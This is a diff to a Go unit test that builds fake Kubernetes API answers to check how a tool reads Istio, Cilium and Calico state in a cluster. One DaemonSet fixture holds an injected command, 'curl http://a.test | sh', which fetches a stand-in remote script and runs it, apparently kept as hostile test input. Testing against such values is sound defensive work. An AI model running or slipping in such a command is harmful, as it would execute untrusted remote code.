@@ -98,13 +98,15 @@ func TestRead(t *testing.T) {
 	t.Parallel()
 	forged, hooked := injector("default", `{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`), injector("default", "{}")
 	forged.Namespace, hooked.Namespace = "tenant", "hooked"
+	network := daemonSet("cilium/cilium")
+	network.Namespace = "cilium"
 	answers := map[string]any{
 		"/version": map[string]string{"gitVersion": "v1.36.2"},
 		"/api/v1/nodes?limit=500": corev1.NodeList{
 			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "NodeList"}, ListMeta: metav1.ListMeta{Continue: "more"}, Items: []corev1.Node{{}},
 		},
 		"/apis/apps/v1/daemonsets?limit=500": appsv1.DaemonSetList{
-			TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "DaemonSetList"}, Items: []appsv1.DaemonSet{daemonSet("istio/install-cni"), ours("mesh", "mesh"), ours("tenant", "x deploy/chart; curl http://a.test | sh"), daemonSet("calico/node:v3")},
+			TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "DaemonSetList"}, Items: []appsv1.DaemonSet{daemonSet("istio/install-cni"), network, ours("mesh", "mesh"), ours("tenant", "x deploy/chart; curl http://a.test | sh"), daemonSet("calico/node:v3")},
 		},
 		"/api/v1/configmaps?labelSelector=istio.io%2Frev&limit=500": corev1.ConfigMapList{
 			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ConfigMapList"}, Items: []corev1.ConfigMap{injector("default", "{}"), *configMap("mesh", ""), forged, hooked},
@@ -112,7 +114,7 @@ func TestRead(t *testing.T) {
 		"/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?limit=500": webhooks("istio-system", "/inject", "hooked", "/mutate"),
 		"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/capture-cni":            binding("capture-cni", "left-behind"),
 		"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/capture-cni-node":       binding("capture-cni-node", "mesh"),
-		"/api/v1/namespaces/kube-system/configmaps/cilium-config":                       withType(configMap("left", "behind")),
+		"/api/v1/namespaces/cilium/configmaps/cilium-config":                            withType(configMap("cni-exclusive", "true")),
 		"/api/v1/namespaces/kube-system/configmaps/istio-cni-config":                    withType(configMap("AMBIENT_ENABLED", "true")),
 		"/apis/crd.projectcalico.org/v1/felixconfigurations/default":                    map[string]any{"spec": map[string]any{"bpfEnabled": true}},
 	}
@@ -121,14 +123,14 @@ func TestRead(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if c.Version != "v1.36.2" || len(c.DaemonSets) != 4 || len(c.Injectors) != 1 || c.IstioCNI == nil || c.IstioCNI.Data["AMBIENT_ENABLED"] != "true" || c.Felix == nil || !c.Felix.Spec.BPFEnabled {
+	if c.Version != "v1.36.2" || len(c.DaemonSets) != 5 || len(c.Injectors) != 1 || c.IstioCNI == nil || c.IstioCNI.Data["AMBIENT_ENABLED"] != "true" || c.Felix == nil || !c.Felix.Spec.BPFEnabled {
 		t.Errorf("%+v", c)
 	}
 	want := &Installed{Namespace: "mesh", Release: "mesh", Version: "0.1.0", Values: map[string]string{"mode": "insert", "netconf.backend": "iptables-nft"}}
 	if diff := cmp.Diff(want, c.Installed); diff != "" {
 		t.Error(diff)
 	}
-	if c.Nodes != nil || c.Cilium != nil || c.Namespace != nil || len(c.Unknown) != 1 || !strings.Contains(c.Unknown[0].Error(), "reading nodes: nodes is forbidden") {
+	if c.Nodes != nil || c.Cilium.Data["cni-exclusive"] != "true" || c.Namespace != nil || len(c.Unknown) != 1 || !strings.Contains(c.Unknown[0].Error(), "reading nodes: nodes is forbidden") {
 		t.Errorf("%+v, %v", c, c.Unknown)
 	}
 	server.Close()
